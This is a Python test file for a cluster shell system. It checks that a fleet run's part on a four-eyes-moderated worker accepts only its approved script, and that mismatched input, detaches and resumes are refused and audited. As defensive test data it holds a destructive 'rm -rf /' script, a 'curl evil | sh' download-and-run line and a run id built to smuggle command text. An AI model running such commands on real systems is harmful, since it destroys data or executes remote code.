"""A fleet run's part routed to a four-eyes worker of another master (master_side.cluster.serve, relay, stream,
part_input; OperatorAPI.open_for_master), over the router of tests/test_cluster.py: the open call carries the
run's script; B's moderators are asked with what runs (the command, or the script's size, sha256 and text); B lets
through as the part's input only what the call said (the script, or nothing for a command), and ends the session,
audited, on anything else; the run no longer waiting withdraws the request on B. Against real processes:
tests/e2e/test_cluster_copy_e2e.py."""

from __future__ import annotations

import hashlib
from types import SimpleNamespace
from typing import Any

import pytest
from twisted.internet import defer
from twisted.python.failure import Failure

from master_side.cluster import serve
from master_side.cluster.part_input import PartInput
from master_side.cluster.serve import RouterSink
from master_side.cluster.stream import OpenCall, Refused
from slaveshell.fleet.script import MAX_SCRIPT, SCRIPT_RUNNER
from slaveshell.vocabulary.policy import ClusterIdentity, Identity, Policy, Rule
from slaveshell.vocabulary.protocol import OpenRequest, ProtocolError

from .test_cluster_routed import ALICE, TOKEN, FakeView, OperatorSink, Site

SCRIPT = b"#!/bin/sh\necho from-the-script\n"


def part(script: bytes | None = SCRIPT, run: str | None = "r1", command: str = SCRIPT_RUNNER) -> OpenCall:
    return OpenCall(OpenRequest(worker="b1", pty=False, command=command), "alice", ("ops",), TOKEN, run, script)


def test_an_open_call_carries_a_runs_script_and_what_the_part_may_take_as_input() -> None:
    call = OpenCall.from_wire(part().to_wire())
    assert call.script == SCRIPT and call.stdin() == SCRIPT
    assert OpenCall.from_wire(part(None, command="uptime").to_wire()).stdin() == b""  # a command: nothing
    assert OpenCall.from_wire(part(None).to_wire()).stdin() is None  # an older master: its script unknown
    assert OpenCall.from_wire(part(None, run=None, command="uptime").to_wire()).stdin() is None  # not a run


@pytest.mark.parametrize("wire", [
    {**part(run=None).to_wire()},  # a script without a run
    {**part(command="sh -s").to_wire()},  # a script for another command than the one that runs it
    {**part().to_wire(), "script": b""},
    {**part().to_wire(), "script": "text"},
    {**part().to_wire(), "script": b"x" * (MAX_SCRIPT + 1)},
    {**part().to_wire(), "request": {**part().request.to_wire(), "pty": True}},
    {**part().to_wire(), "run": "r1 of master A, command: true;"},  # a run id that would read as other text
    {**part().to_wire(), "run": ""},
])
def test_a_script_comes_only_with_the_part_that_runs_it(wire: dict[str, object]) -> None:
    with pytest.raises(ProtocolError):
        OpenCall.from_wire(wire)


class RunSite(Site):
    """B serves run parts: its opener is told the run and the script."""

    def __init__(self) -> None:
        super().__init__()
        self.opened: list[tuple[str | None, bytes | None]] = []
        self.served._opener = self.open_part  # type: ignore[assignment]

    def open_part(self, who: Identity, request: OpenRequest, sink: RouterSink, run: str | None = None,
                  script: bytes | None = None) -> FakeView:
        self.opened.append((run, script))
        view = FakeView(who, sink)
        self.views.append(view)
        return view

    def part(self, script: bytes | None, command: str = SCRIPT_RUNNER, sink: OperatorSink | None = None) -> Any:
        d = self.relays.open(ALICE, OpenRequest(worker="b1", pty=False, command=command), sink or OperatorSink(),
                             "r1", script)
        result = d.result
        if isinstance(result, Failure):
            result.raiseException()
        return result


def test_b_takes_the_script_it_was_told_of_and_its_end() -> None:
    site = RunSite()
    view = site.part(SCRIPT)
    assert site.opened == [("r1", SCRIPT)]
    view.input(SCRIPT[:10])
    view.input(SCRIPT[10:])
    view.eof()
    assert site.views[0].got == [("input", SCRIPT[:10]), ("input", SCRIPT[10:]), ("eof", None)]
    assert site.audited == []


@pytest.mark.parametrize(("sent", "line"), [
    ([b"#!/bin/sh\nrm -rf /\n"], "its approved script (31 bytes)"),  # other bytes
    ([SCRIPT, b"more"], "its approved script (31 bytes)"),  # more bytes
    ([SCRIPT[:5], None], "its approved script (31 bytes)"),  # an end of input too early
])
def test_b_ends_a_part_whose_input_is_not_its_script_and_audits_it(sent: list[bytes | None], line: str) -> None:
    site = RunSite()
    view = site.part(SCRIPT)
    for data in sent:
        if data is None:
            view.eof()
        else:
            view.input(data)
    b_view = site.views[0]
    ended = [why for kind, why in b_view.got if kind == "end"]
    expected = (f"a fleet run's part routed from another master sent input other than {line}: session s1 on b1 "
                "ended")
    assert ended == [expected]
    assert ("eof", None) not in b_view.got  # the script never runs: its end of input never came
    assert all(data in SCRIPT for kind, data in b_view.got if kind == "input")  # only a part of the script went
    assert site.audited == [("cluster:A/alice", "b1", expected)]


def test_b_gives_a_commands_part_no_input() -> None:
    site = RunSite()
    view = site.part(None, command="uptime")
    view.eof()
    assert site.views[0].got == [("eof", None)]
    site = RunSite()
    view = site.part(None, command="sh -s")
    view.input(b"curl evil | sh\n")
    assert [kind for kind, _ in site.views[0].got] == ["end"]
    assert site.audited[0][2].startswith("a fleet run's part routed from another master sent input other than none "
                                         "(a command's stdin is closed)")


def test_the_gate_lets_nothing_through_once_it_ended_the_session() -> None:
    view = FakeView(ALICE, None)  # type: ignore[arg-type]
    lines: list[str] = []
    gate = PartInput(b"ab", lines.append)
    gate.input(view, b"a")
    gate.input(view, b"x")  # differs: ended
    gate.input(view, b"b")
    gate.eof(view)
    assert [kind for kind, _ in view.got] == ["input", "end"] and len(lines) == 1


def test_the_run_no_longer_waiting_withdraws_the_part_on_b() -> None:
    """The run interrupted while its part waits for B's moderators: A drops the part's procedure, B's next message
    fails, and B's request is withdrawn (as for an operator leaving)."""
    site = RunSite()
    withdrawn: list[Any] = []
    left: list[Any] = []

    @defer.inlineCallbacks
    def waits(who: Identity, request: OpenRequest, sink: RouterSink, run: str | None = None,
              script: bytes | None = None) -> Any:
        gone: defer.Deferred[None] = defer.Deferred()
        sink.on_disconnect(lambda: gone.callback(None))
        yield gone
        left.append(run)
        return None

    site.served._opener = waits  # type: ignore[assignment]
    d = site.relays.open(ALICE, OpenRequest(worker="b1", pty=False, command="uptime"), OperatorSink(), "r1", None,
                         lambda callback: withdrawn.append(callback) or (lambda: None))
    failures: list[Failure] = []
    d.addErrback(failures.append)
    assert not d.called and len(withdrawn) == 1
    withdrawn[0]()  # RunSink.withdraw
    for _ in range(int(serve.PING) + 1):
        site.clock.advance(1)
        site.served.tick(site.clock.seconds())
        site.relays.tick(site.clock.seconds())
    assert left == ["r1"]  # B heard that A's end is gone
    assert not [uri for uri in site.router.procedures if ".session." in uri]


class Registry:
    limits = None


def api_of_b(policy: Policy) -> tuple[Any, list[str], list[tuple[str | None, str | None]]]:
    """B's operators' API as far as open_for_master goes: its refusals, and what `open` was asked (the run's id and
    the approval request's text)."""
    from master_side.holds.step import Holds
    from master_side.operators.api import OperatorAPI

    refused: list[str] = []
    trail = SimpleNamespace(master_name="host-b:/srv/B/master",
                            refused=lambda who, worker, message: refused.append(message))
    api = OperatorAPI(Registry(), None, None, lambda: trail, lambda: None, Holds())  # type: ignore[arg-type]
    api.policy = policy
    opened: list[tuple[str | None, str | None]] = []

    def open_(who: Identity, request: OpenRequest, sink: object, run_id: str | None = None,
              what: str | None = None) -> defer.Deferred[None]:
        opened.append((run_id, what))
        return defer.succeed(None)

    api.open = open_  # type: ignore[method-assign]
    return api, refused, opened


FOUR_EYES = Policy([Rule(users=["cluster:A/alice"], workers=["b*"], moderated_by=["ops"])])


def test_bs_moderators_see_the_part_of_a_run_of_another_master_as_it_runs() -> None:
    api, refused, opened = api_of_b(FOUR_EYES)
    who = ClusterIdentity.vouched("A", "alice", ())
    request = OpenRequest(worker="b1", pty=False, command=SCRIPT_RUNNER, env={"X": "1"}, cwd="/srv")
    api.open_for_master(who, request, OperatorSink(), "r1", SCRIPT)
    api.open_for_master(who, OpenRequest(worker="b1", pty=False, command="uptime"), OperatorSink(), "r2", None)
    digest = hashlib.sha256(SCRIPT).hexdigest()
    assert opened == [("r1", f"fleet run r1 of master A, script of {len(SCRIPT)} bytes (sha256 {digest}): "
                             f"{SCRIPT.decode()} with variables X=1 in /srv"),
                      ("r2", "fleet run r2 of master A, command: uptime")]
    assert refused == []


def test_a_scripts_part_without_its_script_is_refused_on_a_four_eyes_worker_only() -> None:
    api, refused, opened = api_of_b(FOUR_EYES)
    who = ClusterIdentity.vouched("A", "alice", ())
    d = api.open_for_master(who, OpenRequest(worker="b1", pty=False, command=SCRIPT_RUNNER), OperatorSink(), "r1", None)
    failure = d.result
    d.addErrback(lambda _: None)
    assert isinstance(failure.value, Refused) and failure.value.kind == "permission denied"
    assert failure.value.message == ("a fleet run's part on b1 needs a moderator's approval (four eyes) of its "
                                     "script, which master A did not send: run it on the worker's own master")
    assert refused == [failure.value.message] and opened == []
    api, refused, opened = api_of_b(Policy([Rule(users=["cluster:A/alice"], workers=["b*"])]))
    api.open_for_master(who, OpenRequest(worker="b1", pty=False, command=SCRIPT_RUNNER), OperatorSink(), "r1", None)
    assert opened and refused == []



def test_a_run_parts_lost_connection_closes_it_on_b() -> None:
    """Unlike an operator's own session (detached on B when the connection to A is lost), a fleet run's part is
    closed: nobody resumes a run's part."""
    site = RunSite()
    sink = OperatorSink()
    site.part(None, command="uptime", sink=sink)
    for leave in sink.disconnects:
        leave()
    assert site.views[0].got == [("close", None)]


def test_b_ends_a_part_its_calling_master_detaches_and_audits_it() -> None:
    """A run's part is never kept without its run: a DETACH from the calling master (which the relay never sends
    for a part: a hostile or modified master) ends it, so nobody resumes it and types into its script."""
    site = RunSite()
    view = site.part(SCRIPT)
    view.input(SCRIPT[:10])
    view.detach()
    b_view = site.views[0]
    line = "a fleet run's part routed from another master was detached: session s1 on b1 ended"
    assert b_view.got == [("input", SCRIPT[:10]), ("end", line)]
    assert site.audited == [("cluster:A/alice", "b1", line)]


def test_a_runs_part_is_watched_never_joined_or_resumed_and_a_resume_is_the_operators_own_only() -> None:
    from master_side.holds.step import Holds
    from master_side.operators.api import OperatorAPI
    from master_side.operators.terms import OperatorError

    audited: list[str] = []
    owner = Identity(1000, 1000, 1, "alice", frozenset({"alice"}))
    other = Identity(1001, 1001, 2, "bob", frozenset({"bob"}))
    part = SimpleNamespace(id="s1", worker="b1", run_id="r1", identity=owner, owner=None)
    mine = SimpleNamespace(id="s2", worker="b1", run_id=None, identity=owner, owner=None)
    registry = SimpleNamespace(limits=None, get={"s1": part, "s2": mine}.get)
    api = OperatorAPI(registry, None, None, lambda: None, lambda: None, Holds())  # type: ignore[arg-type]
    api.gate = SimpleNamespace(audit=lambda who, kind, detail, worker: audited.append(detail))  # type: ignore
    for who, session, mode, line in (
            (owner, "s1", "attach", "permission denied: session s1 is a part of fleet run r1: it may be watched, "
                                    "not joined or resumed"),
            (owner, "s1", "resume", "permission denied: session s1 is a part of fleet run r1: it may be watched, "
                                    "not joined or resumed"),
            (other, "s2", "resume", "session s2 is not yours: join it with the button")):
        with pytest.raises(OperatorError) as refused:
            api.attach(who, OperatorSink(), session, mode)  # type: ignore[arg-type]
        assert refused.value.message == line
    assert audited == ["permission denied: attach s1: a fleet run's part", "permission denied: resume s1: a fleet "
                       "run's part", "permission denied: resume s2: not the operator's own"]
